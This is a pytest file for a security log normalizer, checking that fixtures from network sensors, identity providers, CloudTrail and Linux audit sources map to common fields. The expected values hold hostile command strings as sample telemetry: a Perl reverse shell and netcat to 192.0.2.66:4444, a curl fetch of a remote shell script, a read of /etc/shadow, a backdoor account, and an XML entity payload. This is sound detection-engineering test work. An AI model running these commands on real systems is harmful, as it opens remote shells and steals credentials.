"""Zeek, Suricata, Okta, Entra ID, CloudTrail, auditd, Sysmon for Linux and plain JSON fixtures."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from schemas.event import Origin
from udfs.normalize.files import iter_records
from udfs.normalize.normalizer import Normalizer

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "normalize"


def get(record: dict[str, Any], path: str) -> Any:
    value: Any = record
    for part in path.split("."):
        if not isinstance(value, dict) or part not in value:
            return None
        value = value[part]
    return value


def normalized(file_name: str) -> list[tuple[str | None, dict[str, Any]]]:
    out = []
    normalizer = Normalizer()
    for payload, origin in iter_records(FIXTURES / file_name):
        outcome = normalizer.normalize(payload, origin)
        assert outcome.event is not None, outcome.dead_letter
        out.append((outcome.source_format, outcome.event))
    return out


# file -> one expectation dict per record, in file order
EXPECT: dict[str, list[dict[str, Any]]] = {
    "zeek.jsonl": [
        {
            "event.dataset": "zeek.conn",
            "source.ip": "10.0.0.5",
            "destination.port": 443,
            "source.bytes": 1200,
            "destination.bytes": 5400,
            "network.bytes": 6600,
            "network.direction": "outbound",
            "network.transport": "tcp",
            "event.action": "SF",
            "timestamp_ms": 1714564800123,
        },
        {
            "event.dataset": "zeek.dns",
            "dns.question_name": "evil.example",
            "dns.question_type": "A",
            "dns.resolved_ip": ["198.51.100.9"],
            "dns.response_code": "NOERROR",
            "network.protocol": "dns",
        },
        {
            "event.dataset": "zeek.http",
            "http.method": "GET",
            "http.url": "/payload.bin",
            "http.status_code": 200,
            "http.user_agent": "curl/8.0",
            "destination.domain": "evil.example",
            "http.mime_type": "application/octet-stream",
        },
        {
            "event.dataset": "zeek.ssl",
            "tls.server_name": "evil.example",
            "tls.version": "TLSv12",
            "tls.ja3": "e7d705a3286e19ea42f587b344ee6865",
            "tls.established": True,
        },
        {
            "event.dataset": "zeek.files",
            "file.name": "payload.exe",
            "file.hash.md5": "79e4a9840d7d3a96d7c04fe2434c892e",
            "file.size": 4096,
            "source.ip": "198.51.100.9",
            "destination.ip": "10.0.0.5",
            "id": "FMkioa222mEuM2RuQ9",
        },
        {
            "event.dataset": "zeek.smb_files",
            "file.path": "\\\\10.0.0.20\\ADMIN$\\PSEXESVC.exe",
            "event.action": "file-open",
            "network.protocol": "smb",
        },
        {"event.dataset": "zeek.smb_mapping", "file.path": "\\\\10.0.0.20\\ADMIN$", "event.action": "smb-tree-connect"},
        {
            "event.dataset": "zeek.kerberos",
            "user.name": "alice",
            "user.domain": "CORP.EXAMPLE",
            "authentication.ticket_encryption": "rc4-hmac",
            "event.outcome": "success",
            "event.action": "kerberos-tgs-request",
        },
        {"event.dataset": "zeek.dce_rpc", "event.action": "DRSGetNCChanges", "network.protocol": "dce_rpc"},
        {
            "event.dataset": "zeek.ntlm",
            "user.name": "bob",
            "user.domain": "CORP",
            "event.outcome": "failure",
            "source.domain": "KALI",
            "destination.domain": "dc01.corp.example",
        },
        {
            "event.dataset": "zeek.notice",
            "event.kind": "alert",
            "rule.name": "SSH::Password_Guessing",
            "source.ip": "192.0.2.66",
        },
        {"event.dataset": "zeek.weird", "source.ip": "10.0.0.5", "destination.port": 80},
    ],
    "suricata.jsonl": [
        {
            "event.kind": "alert",
            "rule.id": "2024897",
            "rule.name": "ET HUNTING Suspicious curl User-Agent",
            "event.severity": 2,
            "threat.technique_ids": ["T1071"],
            "http.user_agent": "curl/8.0",
            "source.ip": "10.0.0.5",
            "network.transport": "tcp",
            "timestamp_ms": 1714564800123,
        },
        {
            "event.dataset": "suricata.flow",
            "source.bytes": 1200,
            "destination.bytes": 5400,
            "network.bytes": 6600,
            "network.packets": 22,
        },
        {"dns.question_name": "evil.example", "dns.resolved_ip": ["198.51.100.9"], "dns.type": "answer"},
        {"http.method": "GET", "http.host": "evil.example", "http.status_code": 200},
        {
            "tls.server_name": "evil.example",
            "tls.ja3": "e7d705a3286e19ea42f587b344ee6865",
            "tls.ja3s": "0ad94fcb7d3a2c56679fbd004f0fe8f2",
            "destination.domain": "evil.example",
        },
        {
            "file.name": "payload.bin",
            "file.hash.sha256": "f610428ebddf6f8cf9e39322e672583c45fcdcf885efad0ab48fd53a3dfc2c4b",
            "file.size": 4096,
        },
    ],
    "okta.jsonl": [
        {
            "event.action": "user.session.start",
            "event.outcome": "success",
            "user.name": "alice@example.com",
            "user.email": "alice@example.com",
            "source.ip": "198.51.100.7",
            "source.geo.country_name": "Ireland",
            "authentication.risk_level": "high",
            "authentication.session_id": "102nZHzd6OHSfGG51vsoc22gw",
            "cloud.provider": "okta",
            "event.category": ["authentication", "session"],
        },
        {
            "event.outcome": "failure",
            "authentication.mfa": True,
            "authentication.method": "OKTA_VERIFY_PUSH",
            "authentication.failure_reason": "INVALID_CREDENTIALS",
        },
        {
            "user.name": "admin@example.com",
            "user.target.name": "alice@example.com",
            "user.target.privileged": True,
            "event.category": ["iam"],
        },
    ],
    "entra_id.jsonl": [
        {
            "event.action": "sign-in",
            "event.outcome": "failure",
            "user.name": "alice@example.com",
            "user.id": "u-alice",
            "source.ip": "198.51.100.7",
            "authentication.mfa": False,
            "authentication.failure_reason": "Invalid username or password.",
            "authentication.risk_level": "medium",
            "cloud.tenant": "8a4de8b5-095c-47d0-a96f-a75130c61d53",
            "source.geo.city_name": "Dublin",
        },
        {
            "event.action": "Add member to role",
            "event.outcome": "success",
            "user.name": "admin@example.com",
            "user.target.name": "alice@example.com",
            "user.target.roles": ["Global Administrator"],
            "user.target.privileged": True,
            "event.category": ["iam"],
            "event.type": ["change"],
        },
        {
            "event.action": "sign-in",
            "event.outcome": "success",
            "authentication.mfa": True,
            "user.name": "svc@example.com",
            "source.ip": "203.0.113.50",
        },
    ],
    "cloudtrail.jsonl": [
        {
            "event.action": "CreateAccessKey",
            "event.category": ["iam"],
            "event.type": ["creation"],
            "event.outcome": "success",
            "user.name": "alice",
            "cloud.account": "111122223333",
            "cloud.region": "us-east-1",
            "cloud.service": "iam",
            "source.ip": "198.51.100.7",
            "id": "e1",
        },
        {
            "event.action": "ConsoleLogin",
            "event.outcome": "failure",
            "user.name": "root",
            "user.privileged": True,
            "authentication.mfa": False,
            "event.category": ["authentication"],
        },
        {
            "event.outcome": "failure",
            "cloud.error_code": "AccessDenied",
            "user.name": "session1",
            "authentication.mfa": True,
            "source.domain": "ec2.amazonaws.com",
            "cloud.resource": "arn:aws:s3:::corp-logs",
            "event.type": ["deletion"],
        },
    ],
    "auditd.log": [
        {
            "event.action": "execve",
            "event.category": ["process"],
            "process.executable": "/usr/bin/curl",
            "process.pid": 13393,
            "process.parent.pid": 12041,
            "user.id": "0",
            "user.privileged": True,
            "rule.name": "susp_activity",
            "host.os.family": "linux",
            "timestamp_ms": 1714564800123,
        },
        {"process.args": ["curl", "-o", "/tmp/x sh.sh"], "process.command_line": "curl -o /tmp/x sh.sh"},
        {"event.category": ["authentication"], "event.outcome": "failure", "source.ip": "192.0.2.66"},
        {"event.category": ["iam"], "event.type": ["user", "creation"], "user.name": "backdoor"},
        {"process.command_line": "cat /etc/shadow", "host.name": "web-01"},
        {"service.name": "backdoor", "event.type": ["start"]},
        {"process.command_line": "/bin/sh -c id"},
    ],
    "auditd_json.jsonl": [
        {
            "event.action": "execve",
            "process.executable": "/usr/bin/perl",
            "user.name": "root",
            "process.args": ["perl", "-e", 'use Socket;connect(S,sockaddr_in(4444,inet_aton("192.0.2.66")))'],
            "process.working_directory": "/root",
            "rule.name": "exec",
            "id": "1714564800.123:348501",
        },
        {
            "event.action": "connect",
            "event.category": ["network"],
            "destination.ip": "192.0.2.66",
            "destination.port": 4546,
            "process.name": "nc",
            "process.command_line": "nc 192.0.2.66 4444",
        },
    ],
    "sysmon_linux.log": [
        {
            "event.action": "process-created",
            "process.executable": "/usr/bin/curl",
            "process.command_line": "curl -s http://198.51.100.9/x.sh",
            "process.parent.executable": "/usr/bin/bash",
            "user.name": "root",
            "user.privileged": True,
            "host.name": "web-01",
            "host.os.family": "linux",
            "timestamp_ms": 1714564800123,
        },
        {
            "event.action": "network-connection",
            "destination.ip": "198.51.100.9",
            "destination.port": 80,
            "network.direction": "egress",
        },
    ],
    "plain_json.jsonl": [
        {
            "host.name": "ws-01",
            "user.name": "alice",
            "process.name": "powershell.exe",
            "threat.technique_ids": ["T1055"],
            "host.criticality": 8,
        },
    ],
}
FORMATS = {
    "zeek.jsonl": "zeek",
    "suricata.jsonl": "suricata",
    "okta.jsonl": "okta",
    "entra_id.jsonl": "entra_id",
    "cloudtrail.jsonl": "cloudtrail",
    "auditd.log": "auditd",
    "auditd_json.jsonl": "auditd_json",
    "sysmon_linux.log": "sysmon_linux",
    "plain_json.jsonl": "plain_json",
}


@pytest.mark.parametrize("file_name", sorted(EXPECT))
def test_fixture_normalizes_with_key_fields(file_name: str) -> None:
    results = normalized(file_name)
    assert len(results) == len(EXPECT[file_name])
    for number, ((fmt, event), expect) in enumerate(zip(results, EXPECT[file_name], strict=True), start=1):
        assert fmt == FORMATS[file_name]
        for path, want in expect.items():
            assert get(event, path) == want, f"{file_name}:{number} {path}: {get(event, path)!r} != {want!r}"
        assert event["original"], "vendor fields are kept for rule matching"


def test_records_file_splits_into_the_same_events_as_single_records() -> None:
    split = [e for _f, e in normalized("cloudtrail_records.json")]
    single = [e for _f, e in normalized("cloudtrail.jsonl")]
    assert [e["id"] for e in split] == ["e1", "e2", "e3"]
    assert [e["original"] for e in split] == [e["original"] for e in single]


def test_zeek_log_type_is_recognised_without_path() -> None:
    payload = (FIXTURES / "zeek.jsonl").read_bytes().splitlines()[1].replace(b'"_path":"dns",', b"")
    event = Normalizer().normalize(payload, Origin()).event
    assert event is not None and event["event"]["dataset"] == "zeek.dns"


def test_zeek_bad_address_is_a_schema_dead_letter() -> None:
    payload = (
        b'{"ts":1714564800.1,"uid":"C1","id.orig_h":"not-an-ip","id.orig_p":1,"id.resp_h":"10.0.0.1","id.resp_p":2}'
    )
    letter = Normalizer().normalize(payload, Origin()).dead_letter
    assert letter is not None and letter["reason"] == "schema"
    assert letter["detail"].startswith("id.orig_h: expected an IP address")


def test_splunk_export_wrapper_is_unwrapped() -> None:
    inner = (FIXTURES / "zeek.jsonl").read_bytes().splitlines()[2]
    import orjson

    wrapped = orjson.dumps({"preview": False, "offset": 0, "result": {"_raw": inner.decode(), "_cd": "0:12"}})
    outcome = Normalizer().normalize(wrapped, Origin())
    assert outcome.source_format == "zeek"
    assert outcome.event is not None and outcome.event["http"]["method"] == "GET"


def test_cloudtrail_records_object_sent_whole_gets_a_hint() -> None:
    letter = Normalizer().normalize((FIXTURES / "cloudtrail_records.json").read_bytes(), Origin()).dead_letter
    assert letter is not None and letter["reason"] == "unknown_format"
    assert "split it first" in letter["detail"]


def test_auditd_lines_of_one_event_are_merged() -> None:
    text = (FIXTURES / "auditd.log").read_bytes().splitlines()
    outcome = Normalizer().normalize(text[0] + b"\n" + text[1], Origin())
    assert outcome.event is not None
    assert outcome.event["process"]["args"] == ["curl", "-o", "/tmp/x sh.sh"]
    assert outcome.event["process"]["executable"] == "/usr/bin/curl"
    assert [r["type"] for r in outcome.event["original"]["records"]] == ["SYSCALL", "EXECVE"]


def test_auditd_lines_of_different_events_are_refused() -> None:
    text = (FIXTURES / "auditd.log").read_bytes().splitlines()
    letter = Normalizer().normalize(text[0] + b"\n" + text[2], Origin()).dead_letter
    assert letter is not None and letter["reason"] == "schema" and "line 2" in letter["detail"]


def test_sysmon_linux_refuses_entity_declarations() -> None:
    bomb = (
        b'May  1 12:00:00 h sysmon: <!DOCTYPE x [<!ENTITY a "aaaa">]><Event><System>'
        b'<Provider Name="Linux-Sysmon"/></System></Event>'
    )
    letter = Normalizer("sysmon_linux").normalize(bomb, Origin()).dead_letter
    assert letter is not None and letter["reason"] == "bad_xml"
